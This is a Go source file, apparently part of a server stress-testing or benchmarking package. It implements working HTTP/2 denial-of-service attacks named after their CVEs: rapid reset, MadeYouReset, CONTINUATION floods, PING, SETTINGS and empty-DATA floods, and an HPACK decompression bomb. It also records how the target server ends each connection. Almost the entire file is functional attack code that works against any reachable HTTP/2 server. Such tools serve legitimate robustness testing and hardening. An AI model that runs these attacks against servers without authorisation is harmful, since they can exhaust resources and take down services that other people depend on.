package bench

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"strconv"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The HTTP/2 attacks: each runs Conns workers, each opening connections
// one after another (h2c with prior knowledge on an http:// URL, h2 by
// ALPN on an https:// one) and attacking on each until the server ends it
// or the attack's time is up:
//
//	h2rapidreset    streams opened and reset at once (CVE-2023-44487): HEADERS
//	                alone, HEADERS and part of a body, or a whole upload, each
//	                followed by RST_STREAM CANCEL
//	h2madeyoureset  streams the server must reset itself (CVE-2025-8671):
//	                WINDOW_UPDATE of 0 on the stream, or DATA beyond its
//	                content-length
//	h2continuation  HEADERS without END_HEADERS, then CONTINUATION frames
//	                without end (CVE-2023-45288): 1-byte ones on even
//	                workers, 16 KiB ones on odd workers
//	h2ping          PING frames, answers never read (CVE-2019-9512)
//	h2settings      SETTINGS frames, answers never read (CVE-2019-9515)
//	h2emptydata     empty DATA frames on an open stream, answers never read
//	                (CVE-2019-9518)
//	h2hpackbomb     a ~4 KiB field inserted into the HPACK dynamic table once
//	                and referenced h2BombRefs times in one header block
//	                (CVE-2016-6581-style), one such request after another
//
// What the server answers is read (a goroutine per connection) except for
// the three floods, which read only once the server has closed the
// connection, to learn why. Each connection's end is counted in
// AttackCounts.Ends: "GOAWAY <code>", "closed" (without a GOAWAY), "open
// at the end" (the attack's time ran out first) or "bound reached" (the
// per-connection bounds below).

// h2Kinds are the attack kinds this file runs.
var h2Kinds = []string{"h2rapidreset", "h2madeyoureset", "h2continuation", "h2ping", "h2settings", "h2emptydata", "h2hpackbomb"}

func isH2Kind(kind string) bool { return slices.Contains(h2Kinds, kind) }

// Bounds of one HTTP/2 attack connection (the server ends one long before).
const (
	h2MaxFramesPerConn  = 1_000_000 // frames written on one connection
	h2MaxConnsPerWorker = 1_000_000 // connections one worker opens, one after another
	h2Batch             = 64        // streams (or frames) per write
	h2BombRefs          = 400       // h2hpackbomb: references to the big field in one block
	h2BombValue         = 4096 - 32 - len("x-bomb")
	h2MaxPostMortem     = 64 << 10 // flood kinds: bytes read after the server closed
	h2ConnWindow        = 65535    // the protocol's initial connection window
)

// End reasons of an HTTP/2 attack connection (AttackCounts.Ends keys).
const (
	h2EndClosed = "closed"
	h2EndOpen   = "open at the end"
	h2EndBound  = "bound reached"
)

// runH2 runs the HTTP/2 kind r.cfg.Kind.
func (r *attackRun) runH2() {
	var body func(w int, hc *h2Client)
	read := true
	switch r.cfg.Kind {
	case "h2rapidreset":
		body = r.h2RapidReset
	case "h2madeyoureset":
		body = r.h2MadeYouReset
	case "h2continuation":
		body = r.h2Continuation
	case "h2ping", "h2settings", "h2emptydata":
		body, read = r.h2Flood, false
	case "h2hpackbomb":
		body = r.h2HPACKBomb
	default:
		r.fail(fmt.Errorf("runH2: %q is no HTTP/2 kind", r.cfg.Kind))
		return
	}
	var wg sync.WaitGroup
	for w := range r.cfg.Conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for n := 0; n < h2MaxConnsPerWorker && !r.stopped(); n++ {
				hc := r.h2Open()
				if hc == nil {
					if !r.sleep(100 * time.Millisecond) {
						return
					}
					continue
				}
				if read {
					hc.startReader()
				}
				body(w, hc)
				hc.finish(read)
			}
		}()
	}
	wg.Wait()
}

// h2TLS is the attack's TLS config for the HTTP/2 kinds: the prober's,
// offering only "h2" by ALPN.
func h2TLS(tc *tls.Config) *tls.Config {
	if tc == nil {
		return nil
	}
	c := tc.Clone()
	c.NextProtos = []string{"h2"}
	return c
}

// h2Client is one attacking HTTP/2 connection: frames are framed into out
// and written by flush; the reader (if any) records the server's GOAWAY,
// resets, statuses and connection-window updates.
type h2Client struct {
	r       *attackRun
	c       *attackConn
	out     bytes.Buffer
	fr      *http2.Framer // writes into out
	hbuf    bytes.Buffer
	enc     *hpack.Encoder // writes into hbuf
	pending int64          // frames in out
	frames  int64          // frames written on this connection
	next    uint32         // the next stream id
	scheme  string
	noIndex bool          // header fields are sent never indexed (h2hpackbomb: the table holds only the bomb)
	goaway  atomic.Int64  // the GOAWAY's error code + 1; 0: none seen
	connWin atomic.Int64  // our connection send window, as far as the reader saw
	done    chan struct{} // closed when the reader returns; nil: no reader
}

// h2Open dials, checks that TLS negotiated "h2", and sends the preface
// and an empty SETTINGS; nil if any of it failed.
func (r *attackRun) h2Open() *h2Client {
	c, err := r.dial(nil)
	if err != nil {
		return nil
	}
	hc := &h2Client{r: r, c: c, next: 1, scheme: "http"}
	if tc, ok := c.Conn.(*tls.Conn); ok {
		hc.scheme = "https"
		if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
			r.fail(fmt.Errorf("tls: ALPN negotiated %q, not h2", p))
			c.Close()
			return nil
		}
	}
	hc.fr = http2.NewFramer(&hc.out, nil)
	hc.fr.AllowIllegalWrites = true // WINDOW_UPDATE of 0, empty CONTINUATIONs
	hc.enc = hpack.NewEncoder(&hc.hbuf)
	hc.connWin.Store(h2ConnWindow)
	hc.out.WriteString(http2.ClientPreface)
	hc.frame(hc.fr.WriteSettings())
	if !hc.flush() {
		hc.c.Close()
		return nil
	}
	return hc
}

// frame counts a frame just framed into out (Framer writes into a buffer
// do not fail; an error is a bug in the attack, reported once).
func (hc *h2Client) frame(err error) {
	if err != nil {
		hc.r.fail(fmt.Errorf("h2: framing: %w", err))
		return
	}
	hc.pending++
}

// flush writes what was framed; false if the connection is over (the
// server closed it, or the attack ended).
func (hc *h2Client) flush() bool {
	if hc.out.Len() == 0 {
		return true
	}
	ok := hc.r.send(hc.c, hc.out.Bytes())
	hc.out.Reset()
	if ok {
		hc.r.ctr.frames.Add(hc.pending)
		hc.frames += hc.pending
	}
	hc.pending = 0
	return ok
}

// over reports that this connection's attack should stop: the server sent
// GOAWAY or closed it, the attack ended, or the connection's bound was hit.
func (hc *h2Client) over() bool {
	return hc.goaway.Load() != 0 || hc.c.gone.Load() || hc.r.stopped() || hc.frames >= h2MaxFramesPerConn
}

// block encodes a request's header block: an upload to the attack's URL,
// with content-length if cl >= 0, then extra fields.
func (hc *h2Client) block(cl int, extra ...hpack.HeaderField) []byte {
	hc.hbuf.Reset()
	t := hc.r.t
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: hc.scheme},
		{Name: ":authority", Value: t.host}, {Name: ":path", Value: t.path}, {Name: "content-type", Value: "application/octet-stream"}} {
		f.Sensitive = hc.noIndex
		_ = hc.enc.WriteField(f)
	}
	if cl >= 0 {
		_ = hc.enc.WriteField(hpack.HeaderField{Name: "content-length", Value: strconv.Itoa(cl), Sensitive: hc.noIndex})
	}
	for _, f := range extra {
		_ = hc.enc.WriteField(f)
	}
	return hc.hbuf.Bytes()
}

// open frames HEADERS opening a new stream with block and returns its id;
// it counts the stream as a request.
func (hc *h2Client) open(block []byte, endStream, endHeaders bool) uint32 {
	id := hc.next
	hc.next += 2
	hc.frame(hc.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: endStream, EndHeaders: endHeaders}))
	hc.r.ctr.requests.Add(1)
	return id
}

// data frames DATA if the connection window (as the reader last saw it)
// allows; false if it did not.
func (hc *h2Client) data(id uint32, p []byte, end bool) bool {
	if hc.connWin.Load() < int64(len(p)) {
		return false
	}
	hc.connWin.Add(-int64(len(p)))
	hc.frame(hc.fr.WriteData(id, end, p))
	return true
}

// startReader reads the server's frames until the connection ends.
func (hc *h2Client) startReader() {
	hc.done = make(chan struct{})
	go func() {
		defer close(hc.done)
		hc.read(hc.c.Conn)
	}()
}

// read reads frames from rd until an error, counting them.
func (hc *h2Client) read(rd io.Reader) {
	fr := http2.NewFramer(nil, rd)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			var se http2.StreamError
			if errors.As(err, &se) {
				hc.r.answer("bad answer header")
				continue
			}
			if isConnEnd(err) {
				hc.c.serverClosed(err)
			} else {
				hc.r.fail(fmt.Errorf("h2: read: %w", err))
			}
			return
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			hc.goaway.CompareAndSwap(0, int64(f.ErrCode)+1)
		case *http2.RSTStreamFrame:
			hc.r.answer("RST_STREAM " + f.ErrCode.String())
		case *http2.MetaHeadersFrame:
			hc.r.answer(f.PseudoValue("status"))
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				hc.connWin.Add(int64(f.Increment))
			}
		}
	}
}

// isConnEnd reports an error that ends a connection normally: the server
// closed or reset it, we closed it, or a deadline passed.
func isConnEnd(err error) bool {
	return errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) || errors.Is(err, syscall.ECONNRESET) ||
		errors.Is(err, syscall.EPIPE) || errors.Is(err, net.ErrClosed) || errors.Is(err, os.ErrDeadlineExceeded)
}

// finish ends the connection and counts how it ended. Without a reader
// (the floods), what the server sent is read only if it closed the
// connection: at most h2MaxPostMortem bytes within 500 ms, to find its
// GOAWAY.
func (hc *h2Client) finish(read bool) {
	if !read && hc.c.gone.Load() {
		_ = hc.c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
		hc.read(io.LimitReader(hc.c.Conn, h2MaxPostMortem))
	}
	_ = hc.flush() // a last batch framed after the loop's check
	if hc.done != nil && hc.c.gone.Load() {
		// The server closed it (a write saw it first): let the reader take
		// what arrived before the close, its GOAWAY among it, then stop.
		_ = hc.c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
		<-hc.done
	}
	hc.c.Close()
	if hc.done != nil {
		<-hc.done
	}
	end := h2EndBound
	switch {
	case hc.goaway.Load() != 0:
		end = "GOAWAY " + http2.ErrCode(hc.goaway.Load()-1).String()
	case hc.c.gone.Load():
		end = h2EndClosed
	case hc.r.stopped() || !time.Now().Before(hc.r.end): // a write may time out at the end before stop is closed
		end = h2EndOpen
	}
	hc.r.ended(end)
}

// h2RapidReset: batches of streams each opened and reset at once. Stream
// k (by id) is HEADERS alone (no content-length), HEADERS and 8 of 16
// body bytes, or a whole 16-byte upload (submitted before the reset
// reaches the server), each followed by RST_STREAM CANCEL.
func (r *attackRun) h2RapidReset(_ int, hc *h2Client) {
	body := []byte("rapid-reset-0123")
	for !hc.over() {
		for range h2Batch {
			switch (hc.next / 2) % 3 {
			case 0:
				hc.open(hc.block(-1), false, true)
			case 1:
				id := hc.open(hc.block(len(body)), false, true)
				hc.data(id, body[:8], false)
			default:
				id := hc.open(hc.block(len(body)), false, true)
				hc.data(id, body, true)
			}
			hc.frame(hc.fr.WriteRSTStream(hc.next-2, http2.ErrCodeCancel))
		}
		if !hc.flush() {
			return
		}
	}
}

// h2MadeYouReset: batches of streams (content-length 4, no END_STREAM)
// each followed by a frame the server must answer with RST_STREAM: a
// WINDOW_UPDATE of 0 on the stream, or 8 bytes of DATA.
func (r *attackRun) h2MadeYouReset(_ int, hc *h2Client) {
	over := []byte("too-long")
	for !hc.over() {
		for range h2Batch {
			id := hc.open(hc.block(4), false, true)
			if id/2%2 == 0 || !hc.data(id, over, false) {
				hc.frame(hc.fr.WriteWindowUpdate(id, 0))
			}
		}
		if !hc.flush() {
			return
		}
	}
}

// h2Continuation: one stream's HEADERS without END_HEADERS, then
// CONTINUATION frames without end: 1 byte each on even workers, 16 KiB
// (the largest frame the server takes) on odd ones. The block starts a
// field whose value is declared 1 MiB long, so no prefix of it is
// complete.
func (r *attackRun) h2Continuation(w int, hc *h2Client) {
	blk := append([]byte(nil), hc.block(-1)...)
	// A literal field, new name "x-c", value length 2^20 (RFC 7541 §5.1).
	blk = append(blk, 0x00, 0x03, 'x', '-', 'c', 0x7f)
	for v := 1<<20 - 127; ; v >>= 7 {
		if v < 128 {
			blk = append(blk, byte(v))
			break
		}
		blk = append(blk, byte(v&0x7f|0x80))
	}
	id := hc.open(blk, false, false)
	size, per := 1, h2Batch*8
	if w%2 == 1 {
		size, per = 16384, 4
	}
	frag := bytes.Repeat([]byte{'c'}, size)
	for !hc.over() {
		for range per {
			hc.frame(hc.fr.WriteContinuation(id, false, frag))
		}
		if !hc.flush() {
			return
		}
	}
}

// h2Flood: h2ping, h2settings or h2emptydata, frames in batches of
// h2Batch*8 without reading anything back (h2emptydata on one stream
// opened first, which stays open).
func (r *attackRun) h2Flood(_ int, hc *h2Client) {
	var id uint32
	if r.cfg.Kind == "h2emptydata" {
		id = hc.open(hc.block(-1), false, true)
	}
	var ping [8]byte
	for n := uint64(0); !hc.over(); {
		for range h2Batch * 8 {
			switch r.cfg.Kind {
			case "h2ping":
				n++
				ping = [8]byte{byte(n >> 56), byte(n >> 48), byte(n >> 40), byte(n >> 32), byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}
				hc.frame(hc.fr.WritePing(false, ping))
			case "h2settings":
				hc.frame(hc.fr.WriteSettings(http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 100}))
			default:
				hc.frame(hc.fr.WriteData(id, false, nil))
			}
		}
		if !hc.flush() {
			return
		}
	}
}

// h2HPACKBomb: requests one after another on the connection, each header
// block holding a field of ~4 KiB (inserted into the dynamic table by
// the first block) h2BombRefs times: ~1.6 MB decoded from ~4.5 KB sent
// (the first block), ~0.5 KB (the next ones).
func (r *attackRun) h2HPACKBomb(_ int, hc *h2Client) {
	bomb := hpack.HeaderField{Name: "x-bomb", Value: string(bytes.Repeat([]byte{'b'}, h2BombValue))}
	refs := make([]hpack.HeaderField, h2BombRefs)
	for i := range refs {
		refs[i] = bomb
	}
	hc.noIndex = true
	for !hc.over() {
		hc.open(hc.block(0, refs...), true, true)
		if !hc.flush() {
			return
		}
	}
}
